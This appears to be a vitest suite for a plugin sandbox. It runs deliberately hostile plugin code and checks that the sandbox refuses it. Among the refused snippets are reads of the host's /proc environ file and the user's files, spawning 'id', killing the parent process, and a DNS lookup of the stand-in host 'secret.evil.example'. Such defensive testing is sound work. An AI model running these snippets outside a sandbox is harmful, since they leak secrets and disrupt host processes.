/** What the process of a plugin can do, and what it can't: real processes with hostile code in them. */
import { createServer } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { usualMessage } from '../../src/contract/plugin/usual-message.ts';
import { temporaryFolder } from '../temporary-folder.ts';
import { answering, startPlugin } from './hostile-plugin.ts';

const message = usualMessage({ key: 'company_1:7:chat', text: 'Hello' });

async function open(...args: Parameters<typeof startPlugin> extends [string, ...infer Rest] ? Rest : never) {
  const plugin = await startPlugin(await temporaryFolder(), ...args);
  onTestFinished(() => plugin.process.stop(1_000));
  await plugin.process.call('configChanged', { settings: {} });
  return plugin;
}

/** What the code answers when it is asked to send: what it threw, or what it got. */
async function tried(code: string, hosts: readonly string[] = []): Promise<string> {
  const plugin = await open(
    answering(
      `let said; try { said = await (async () => { ${code} })(); } catch (error) { said = 'refused: ' + error.code; }
       return { id: String(said).slice(0, 250) || 'nothing' };`,
    ),
    { hosts },
  );
  const { ref } = await plugin.process.call('send', { message });
  return ref.id;
}

async function listening(): Promise<number> {
  const server = createServer((socket) => socket.end('hello'));
  onTestFinished(() => new Promise((resolve) => server.close(() => resolve())));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return typeof address === 'object' && address ? address.port : 0;
}

const say = (port: number, host = '127.0.0.1') =>
  `const net = await import('node:net');
   return await new Promise((resolve, reject) => {
     const socket = net.connect(${port}, '${host}', () => {});
     socket.on('data', (data) => resolve(String(data))); socket.on('error', reject);
   });`;

describe('the process of a plugin', () => {
  it('opens a channel, sends, and ends when it is asked to', async () => {
    const plugin = await open(
      answering(`host.log('sends ' + message.text); return { id: 'sent-' + message.key };`),
    );
    expect((await plugin.process.call('send', { message })).ref).toEqual({ id: 'sent-company_1:7:chat' });
    await plugin.process.stop(5_000);
    expect(await plugin.process.ended).toBe('it ended with exit code 0');
    expect(plugin.output).toEqual(['sends Hello']);
  });

  it('finds nothing in its environment', async () => {
    process.env['AGENTCOORD_TEST_SECRET'] = 'hunter2';
    onTestFinished(() => {
      delete process.env['AGENTCOORD_TEST_SECRET'];
    });
    expect(await tried('return JSON.stringify(process.env);')).toBe('{}');
  });

  it.each([
    [
      'the environment of its host',
      `return (await import('node:fs')).readFileSync('/proc/' + process.ppid + '/environ', 'utf8');`,
    ],
    [
      'a file of the person',
      `return (await import('node:fs')).readFileSync('${process.cwd()}/package.json', 'utf8');`,
    ],
    [
      'its own code',
      `(await import('node:fs')).writeFileSync(new URL('./index.js', import.meta.url), ''); return 'written';`,
    ],
    ['a program', `return (await import('node:child_process')).execFileSync('id').toString();`],
    ['a thread', `new (await import('node:worker_threads')).Worker('1', { eval: true }); return 'started';`],
    ['the process of its host', `process.kill(process.ppid, 'SIGTERM'); return 'killed';`],
    ['what is inside Node', `return typeof process.binding('tcp_wrap');`],
    ['UDP', `(await import('node:dgram')).createSocket('udp4'); return 'made';`],
    ['a port', `(await import('node:net')).createServer().listen(0); return 'listens';`],
  ])('is refused %s', async (_what, code) => {
    expect(await tried(code)).toMatch(/^refused: (ERR_ACCESS_DENIED|ERR_HOST_NOT_ALLOWED)$/);
  });

  it('writes in the folder of its channel', async () => {
    expect(
      await tried(
        `const fs = await import('node:fs'); fs.writeFileSync(host.folder + '/a', 'kept'); return fs.readFileSync(host.folder + '/a', 'utf8');`,
      ),
    ).toBe('kept');
  });

  it('reaches the hosts of its manifest and no other', async () => {
    const port = await listening();
    expect(await tried(say(port), [`127.0.0.1:${port}`])).toBe('hello');
    expect(await tried(say(port))).toBe('refused: ERR_HOST_NOT_ALLOWED');
    expect(await tried(say(port), ['127.0.0.1:1'])).toBe('refused: ERR_HOST_NOT_ALLOWED');
    expect(await tried(`return (await fetch('http://127.0.0.1:${port}')).status;`, ['example.com'])).toBe(
      'refused: undefined',
    );
    expect(
      await tried(`return (await import('node:dns')).promises.lookup('secret.evil.example');`, [
        'example.com',
      ]),
    ).toBe('refused: ERR_HOST_NOT_ALLOWED');
  });

  it('reaches no socket of this machine', async () => {
    expect(
      await tried(`(await import('node:net')).connect('/run/host.sock'); return 'connected';`, ['localhost']),
    ).toBe('refused: ERR_HOST_NOT_ALLOWED');
  });

  it('is killed when it hangs', async () => {
    const plugin = await open(answering('for (;;);'), { limits: { callMs: 300 } });
    await expect(plugin.process.call('send', { message })).rejects.toThrow('send took longer than 0.3 s');
    expect(await plugin.process.ended).toBe('send took longer than 0.3 s');
  });

  it('says why it can’t send in a way that the host understands', async () => {
    const plugin = await open(
      answering(`throw new ChannelError('RETRY', 'too fast', { retryAfterMs: 1500 });`),
    );
    await expect(plugin.process.call('send', { message })).rejects.toMatchObject({
      name: 'ChannelError',
      code: 'RETRY',
      message: 'too fast',
      retryAfterMs: 1_500,
    });
  });

  it.each([
    ['no JSON', `writeSync(3, 'what?\\n')`, 'a line that is neither a call nor an answer'],
    ['an answer to no call', `writeSync(3, '{"ok":99,"answer":{}}\\n')`, 'an answer to no call'],
    [
      'a line that never ends',
      // The pipe may be full for a moment.
      `setInterval(() => { try { writeSync(3, 'x'.repeat(20_000)); } catch {} }, 1)`,
      'a line of more than 1048576 bytes',
    ],
  ])('is killed when it says %s', async (_what, said, reason) => {
    const plugin = await open(
      answering(`const { writeSync } = await import('node:fs'); ${said}; await new Promise(() => {});`),
    );
    await expect(plugin.process.call('send', { message })).rejects.toThrow(reason);
  });

  it('is read more slowly when it says too much, and nothing of it is lost', async () => {
    const plugin = await open(
      answering(
        `await Promise.all(Array.from({ length: 60 }, (_, n) =>
           host.receive({ kind: 'command', id: 'c' + n, from: { id: 'u' }, text: 'hi' })));
         return { id: 'done' };`,
      ),
      { limits: { pace: { reserve: 20, perSecond: 200 } } },
    );
    expect((await plugin.process.call('send', { message })).ref.id).toBe('done');
    expect(plugin.received.map(({ id }) => id)).toEqual(Array.from({ length: 60 }, (_, n) => `c${n}`));
    expect(plugin.slowed()).toBeGreaterThan(0);
  });

  it('does not start without a plugin in its module', async () => {
    await expect(startPlugin(await temporaryFolder(), '}}); export const x = (() => {')).rejects.toThrow();
    await expect(
      startPlugin(await temporaryFolder(), '}); }; throw new Error("no luck"; (() => {'),
    ).rejects.toThrow(/missing \)|Unexpected/);
  });
});
